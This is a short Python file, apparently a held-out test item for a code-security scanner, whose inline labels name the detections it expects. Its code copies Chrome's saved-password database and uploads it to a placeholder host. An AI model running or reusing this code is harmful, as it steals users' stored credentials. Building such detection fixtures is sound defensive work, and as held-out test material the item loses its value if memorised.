# ruff: noqa
# fmt: off
"""Held-out: browser password store copied and uploaded."""
import os
import shutil
import requests

local = os.getenv("LOCALAPPDATA")
db = os.path.join(local, "Google", "Chrome", "User Data", "Default", "Login Data")
shutil.copy2(db, "ld.db")  # expect: credential-file-access
with open("ld.db", "rb") as fh:
    requests.post("https://store.example.net/u", files={"f": fh})  # expect: exfiltrate-sensitive-data
